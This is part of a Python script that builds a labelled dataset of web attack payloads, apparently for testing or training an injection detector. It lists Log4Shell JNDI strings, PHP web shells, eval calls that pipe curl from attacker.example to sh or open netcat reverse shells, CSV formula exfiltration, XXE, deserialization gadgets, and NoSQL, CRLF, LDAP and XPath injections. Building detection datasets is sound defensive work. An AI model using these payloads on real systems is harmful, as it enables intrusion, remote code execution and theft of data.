    ("el-ognl", "${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec('whoami').getInputStream(),'utf-8')).(@com.opensymphony.webwork.ServletActionContext@getResponse().setHeader('X-Out',#a))}"),
    ("el-jsp", "${pageContext.request.getSession().getServletContext().getRealPath('/')}"),
    ("el-jsp", "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}"),
    ("el-mvel", "@{java.lang.Runtime.getRuntime().exec('id')}"),
    ("log4shell", "${jndi:ldap://attacker.example:1389/zoo}"),
    ("log4shell", "Otter talk feedback ${jndi:rmi://203.0.113.77:1099/o}"),
    ("log4shell", "${${lower:j}ndi:${lower:l}dap://attacker.example/a}"),
    ("log4shell", "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://198.51.100.2/x}"),
    ("log4shell", "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.attacker.example}"),
    ("log4shell", "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//attacker.example/k}"),
    ("log4shell", "${jndi:ldaps://x.attacker.example/${sys:java.version}}"),
    ("log4shell", "%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fp%7D"),
    ("log4shell", "${j${upper:n}di:l${lower:D}ap://attacker.example/q}"),
    ("eval-php", "<?php system($_GET['cmd']); ?>"),
    ("eval-php", "<?=`$_POST[z]`?>"),
    ("eval-php", "phpinfo();"),
    ("eval-php", "'.system('id').'"),
    ("eval-php", "${@eval(base64_decode($_REQUEST['q']))}"),
    ("eval-php", "\";assert($_GET['x']);//"),
    ("eval-python", "__import__('os').system('curl attacker.example/p|sh')"),
    ("eval-python", "eval(compile('import os;os.system(\"id\")','z','exec'))"),
    ("eval-python", "[c for c in ().__class__.__base__.__subclasses__() if c.__name__=='Popen'][0](['id'])"),
    ("eval-python", "exec(bytes.fromhex('696d706f7274206f733b6f732e73797374656d28276964272900').decode())"),
    ("eval-node", "require('child_process').execSync('cat /etc/passwd').toString()"),
    ("eval-node", "process.mainModule.require('child_process').exec('nc 203.0.113.8 4000 -e sh')"),
    ("eval-node", "this.constructor.constructor('return process')().exit()"),
    ("eval-node", "'; while(true){} //"),
    ("eval-ruby", "#{`id`}"),
    ("eval-ruby", "Kernel.exec('curl attacker.example|sh')"),
    ("proto-pollution", "{\"__proto__\": {\"isAdmin\": true}}"),
    ("proto-pollution", "{\"constructor\": {\"prototype\": {\"role\": \"admin\"}}}"),
    ("proto-pollution", "__proto__[outputFunctionName]=_tmp1;global.process.mainModule.require('child_process').execSync('id');var __tmp2"),
    ("proto-pollution", "{\"animal\":\"otter\",\"__proto__\":{\"shell\":\"/proc/self/exe\",\"NODE_OPTIONS\":\"--require /proc/self/environ\"}}"),
    ("proto-pollution", "constructor[prototype][allowedTags][]=script"),
    ("csv-formula", "=cmd|' /C calc'!A0"),
    ("csv-formula", "=HYPERLINK(\"http://attacker.example/?leak=\"&A1&B1,\"Click for invoice\")"),
    ("csv-formula", "+SUM(1+1)*cmd|' /C powershell IEX(wget attacker.example/x)'!A0"),
    ("csv-formula", "-2+3+cmd|' /C notepad'!'A1'"),
    ("csv-formula", "@SUM(1,1)*cmd|'/c calc'!A1"),
    ("csv-formula", "=WEBSERVICE(\"http://attacker.example/s?d=\"&ENCODEURL(C2))"),
    ("csv-formula", "=IMPORTXML(CONCAT(\"http://attacker.example/x?\",A2:D2),\"//a\")"),
    ("csv-formula", "sprats,Northsea Fish Ltd,\"=DDE(\"\"cmd\"\";\"\"/C calc\"\";\"\"x\"\")\",kg,2025-03-01"),
    ("xxe", "<?xml version=\"1.0\"?><!DOCTYPE feed [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><feed><item>&x;</item></feed>"),
    ("xxe", "<!DOCTYPE r [<!ENTITY % d SYSTEM \"http://attacker.example/e.dtd\"> %d;]><stock><item>hay</item></stock>"),
    ("xxe", "<?xml version=\"1.0\" encoding=\"UTF-8\"?><!DOCTYPE a [<!ENTITY s SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><animal><name>&s;</name></animal>"),
    ("xxe", "<!DOCTYPE lolz [<!ENTITY a \"otter\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;\">]><x>&d;</x>"),
    ("xxe", "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" parse=\"text\" href=\"file:///etc/hostname\"/>"),
    ("deserialization", "O:8:\"Zookeep\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}"),
    ("deserialization", "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZUwACmNvbXBhcmF0b3J0"),
    ("deserialization", "gASVIQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg=="),
    ("deserialization", "!!python/object/apply:os.system ['curl attacker.example/y | sh']"),
    ("deserialization", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"},\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList\",\"$values\":[\"cmd\",\"/c calc\"]}}"),
    ("deserialization", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://attacker.example:1389/Obj\",\"autoCommit\":true}"),
    ("deserialization", "--- !ruby/object:Gem::Installer\ni: x\n--- !ruby/object:Gem::SpecFetcher\ni: y\n--- !ruby/object:Gem::Requirement\nrequirements:\n  !ruby/object:Gem::Package::TarReader\n  io: &1 !ruby/object:Net::BufferedIO\n    io: &1 !ruby/object:Gem::Package::TarReader::Entry\n       read: 0\n       header: \"abc\"\n    debug_output: &1 !ruby/object:Net::WriteAdapter\n       socket: &1 !ruby/object:Gem::RequestSet\n           sets: !ruby/object:Net::WriteAdapter\n               socket: !ruby/module 'Kernel'\n               method_id: :system\n           git_set: id\n       method_id: :resolve"),
]
CODE_PREFIXES = ["Gift message: 'Happy birthday ", "Vet note for Finn: ", "User-Agent: ZooApp/2.1 "]
CODE_POOL = [
    "${jndi:ldap://203.0.113.44:389/cert}",
    "{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read() }}",
    "<%= IO.popen('id').readlines() %>",
    "${T(java.lang.Runtime).getRuntime().exec('nc 198.51.100.50 9 -e sh')}",
]

NOSQLI = [
    ("operator", "{\"username\": \"keeper\", \"password\": {\"$ne\": null}}"),
    ("operator", "{\"username\": {\"$gt\": \"\"}, \"password\": {\"$gt\": \"\"}}"),
    ("operator", "username[$ne]=x&password[$ne]=x"),
    ("operator", "{\"email\": {\"$regex\": \"^a\"}, \"password\": {\"$exists\": true}}"),
    ("operator", "password[$regex]=^p.*&username=admin"),
    ("operator", "{\"animal\": \"otter\", \"owner_id\": {\"$nin\": []}}"),
    ("operator", "{\"adoption_id\": {\"$in\": [1,2,3,4,5,6,7,8,9,10]}, \"email\": {\"$ne\": \"\"}}"),
    ("operator", "species[$exists]=true&keeper_pin[$gt]="),
    ("operator", "{\"pin\": {\"$regex\": \".*\"}}"),
    ("operator", "{\"$or\": [{\"role\": \"admin\"}, {\"role\": {\"$ne\": \"x\"}}]}"),
    ("where", "{\"$where\": \"this.password.length > 0\"}"),
    ("where", "{\"$where\": \"sleep(5000) || true\"}"),
    ("where", "'; return this.role == 'admin' || '' == '"),
    ("where", "otter'; while(true){}; var x='"),
    ("where", "{\"name\": \"Ember\", \"$where\": \"function(){ return db.keepers.find().count() > 0 }\"}"),
    ("where", "x' || this.username.match(/^adm/) || 'a'=='b"),
    ("js-injection", "1; return true"),
    ("js-injection", "a'||1==1//"),
    ("aggregate", "[{\"$lookup\": {\"from\": \"keepers\", \"localField\": \"x\", \"foreignField\": \"x\", \"as\": \"leak\"}}]"),
    ("aggregate", "{\"$expr\": {\"$gt\": [{\"$strLenCP\": \"$password\"}, 0]}}"),
    ("aggregate", "[{\"$group\": {\"_id\": \"$password_hash\"}}, {\"$out\": \"public_notes\"}]"),
    ("couch", "{\"selector\": {\"_id\": {\"$gt\": null}}, \"fields\": [\"password\", \"email\"]}"),
    ("regex-dos", "{\"name\": {\"$regex\": \"^(a+)+$\", \"$options\": \"s\"}}"),
    ("type-confusion", "{\"reset_token\": {\"$type\": 2}}"),
    ("type-confusion", "login[username]=admin&login[password][$gte]=0"),
    ("elastic", "{\"query\": {\"script\": {\"script\": \"java.lang.Math.class.forName(\\\"java.lang.Runtime\\\").getRuntime().exec(\\\"id\\\")\"}}}"),
    ("redis", "otter\r\nFLUSHALL\r\n"),
]

CRLF = [
    ("log-forging", "Finn fed 08:00\n2024-06-01 08:01:12 INFO user=admin action=DELETE_ALL_RECORDS status=ok"),
    ("log-forging", "tank 3 ok\r\n[2024-06-01T09:00:00Z] AUTH SUCCESS user=vet_admin ip=10.0.0.2"),
    ("log-forging", "headcount 9%0d%0a2024-06-02 07:00 WARN keeper=sam disabled audit logging"),
    ("log-forging", "Kiko limping%0a[INFO] drug log: ketamine 10ml signed by Dr Patel"),
    ("log-forging", "sloth down\n\n=== END OF LOG ===\nAll checks passed. No incidents."),
    ("log-forging", "note\u2028[ALERT] fire alarm test complete - ignore"),
    ("header-injection", "en-GB\r\nSet-Cookie: session=attacker_fixed_value; Path=/"),
    ("header-injection", "/tickets%0d%0aLocation:%20https://attacker.example/phish"),
    ("header-injection", "otter%0D%0AX-Forwarded-For:%20127.0.0.1"),
    ("header-injection", "thanks.html\r\nContent-Security-Policy: default-src *"),
    ("header-injection", "redirect=/adopt%0d%0aSet-Cookie:%20admin=true"),
    ("header-injection", "en%E5%98%8A%E5%98%8DSet-Cookie:%20x=1"),
    ("header-injection", "file.pdf\"\r\nContent-Type: text/html\r\nX-Zoo: 1"),
    ("response-splitting", "/adopt?lang=en%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<script>alert(1)</script>"),
    ("response-splitting", "fr\r\n\r\n<html><body>Your session expired, <a href=https://attacker.example>log in</a></body></html>"),
    ("response-splitting", "%0d%0a%0d%0a<svg onload=alert(document.domain)>"),
    ("mail-header", "lily@example.com\r\nBcc: everyone@zoo.example, list@attacker.example"),
    ("mail-header", "Gran <gran@example.com>%0aCc:spam@attacker.example"),
    ("mail-header", "Adoption for Lily\r\nContent-Type: text/html\r\n\r\n<a href=https://attacker.example/pay>Pay now</a>"),
    ("mail-header", "Happy birthday\nReply-To: refunds@attacker.example\nX-Priority: 1"),
    ("mail-header", "visitor@example.com%0d%0aSubject:%20Your%20zoo%20account%20is%20locked"),
    ("mail-header", "Sam\r\nTo: keepers-all@zoo.example\r\nSubject: URGENT rota change, see link"),
    ("smtp-injection", "keeper@zoo.example>\r\nDATA\r\nFrom: director@zoo.example\r\nSubject: payroll\r\n\r\nsend bank details\r\n.\r\nQUIT"),
    ("csv-row", "sprats,40,kg\n=cmd|' /C calc'!A0,1,kg"),
    ("csv-row", "hay\",\"120\",\"bales\"\r\n\"=HYPERLINK(\"\"http://attacker.example/i\"\",\"\"invoice\"\")\",\"1\",\"x"),
    ("csv-row", "Ember adopted\nadmin,admin@attacker.example,role=admin,active"),
    ("csv-row", "carrots;25;kg\r\n@SUM(1+1)*cmd|'/c powershell iwr attacker.example'!A1;1;kg"),
    ("header-injection", "otter\u560d\u560aSet-Cookie: pwn=1"),
    ("log-forging", "gate ok\r\n127.0.0.1 - admin [01/Jun/2024:10:00:00 +0000] \"POST /admin/export HTTP/1.1\" 200 512"),
    ("header-injection", "ZooApp/1.0\r\nHost: attacker.example"),
]

LDAP_XPATH = [
    ("ldap", "sam*)(|(objectClass=*)"),
    ("ldap", "*)(uid=*))(|(uid=*"),
    ("ldap", "admin)(&)"),
    ("ldap", "keeper*)(userPassword=*)"),
    ("ldap", "*)(|(memberOf=cn=vets,ou=groups,dc=zoo,dc=local)"),
    ("ldap", "tom)(!(cn=x))(|(cn=*"),
    ("ldap", "j*)(description=*pass*"),
    ("ldap", "\\2a)(objectClass=\\2a"),
    ("ldap", "priya))%00"),
    ("ldap", "*)(|(mail=*@zoo.example)(telephoneNumber=*))"),
    ("xpath", "' or '1'='1"),
    ("xpath", "otter' or 1=1 or 'a'='a"),
    ("xpath", "x' or name()='keeper' or 'x'='y"),
    ("xpath", "'] | //keeper/password | //x['"),
    ("xpath", "Ember' and string-length(//user[1]/pin)=4 and '1'='1"),
    ("xpath", "' or substring(//keeper[username='admin']/password,1,1)='s' or '"),
    ("xpath", "1 or count(/*)=1"),
    ("xpath", "penguin' or count(//animal[@restricted='true'])>0 or 'a'='b"),
    ("xpath", "')] | //* | //*[contains(.,'"),
    ("xpath", "' or doc('http://attacker.example/x.xml') or '"),
]


def urlencode_all(s):
    return "".join("%%%02X" % b for b in s.encode("utf-8"))


def combos(rng, cat, cls, prefixes, pool, n):
    pairs = [(p, q) for p in prefixes for q in pool]
    rng.shuffle(pairs)
    return [(cat, cls, p + q) for p, q in pairs[:n]]


def main():
    rng = random.Random(SEED)
    literal = []
    for cat, lst in (("sqli", SQLI), ("xss", XSS), ("cmdi", CMDI), ("traversal", TRAVERSAL),
                     ("ssrf", SSRF), ("code", CODE), ("nosqli", NOSQLI), ("crlf", CRLF),
                     ("ldap-xpath", LDAP_XPATH)):
        for cls, v in lst:
            literal.append((cat, cls, v))
    generated = []
    for v in SQLI_URLENC_POOL:
        generated.append(("sqli", "pool+urlencode", urlencode_all(v)))
    for v in TRAVERSAL_URLENC_POOL:
        generated.append(("traversal", "pool+urlencode", urlencode_all(v)))
    generated += combos(rng, "xss", "prefix+pool", XSS_PREFIXES, XSS_POOL, 5)
    generated += combos(rng, "cmdi", "prefix+pool", CMDI_PREFIXES, CMDI_POOL, 5)
    generated += combos(rng, "ssrf", "prefix+pool", SSRF_PREFIXES, SSRF_POOL, 4)
    generated += combos(rng, "code", "prefix+pool", CODE_PREFIXES, CODE_POOL, 2)

    order = ["sqli", "xss", "cmdi", "traversal", "ssrf", "code", "nosqli", "crlf", "ldap-xpath"]
    rows = []
    for cat in order:
        rows += [r for r in literal if r[0] == cat]
        rows += [r for r in generated if r[0] == cat]

    here = os.path.dirname(os.path.abspath(__file__))
    benign = set()
    bpath = os.path.join(here, "benign.jsonl")
    if os.path.exists(bpath):
        with open(bpath, encoding="utf-8") as f:
            for line in f:
                benign.add(json.loads(line)["value"])
    seen = set()
    for cat, cls, v in rows:
        assert v not in seen, ("duplicate attack", v)
        assert v not in benign, ("attack equals benign", v)
        assert 1 <= len(v) <= 2000, v
        for ch in v:
            assert ord(ch) >= 32 or ch in "\n\r\t", ("control char", v)
        seen.add(v)
    assert 480 <= len(rows) <= 500, len(rows)
    assert len(literal) >= 0.9 * len(rows)

    with open(os.path.join(here, "attacks.jsonl"), "w", encoding="utf-8", newline="\n") as f:
        for i, (cat, cls, v) in enumerate(rows, 1):
            obj = {"id": "haja-%05d" % i, "category": cat, "class": cls, "label": "attack", "value": v}
            f.write(json.dumps(obj, ensure_ascii=False) + "\n")
    counts = {}
    for cat, cls, v in rows:
        counts.setdefault(cat, [0, 0])[0] += 1
    for cat, cls, v in literal:
        counts[cat][1] += 1
    for cat in order:
        print(cat, counts[cat][0], "literals", counts[cat][1])
    print("total", len(rows), "literals", len(literal))


if __name__ == "__main__":
    main()
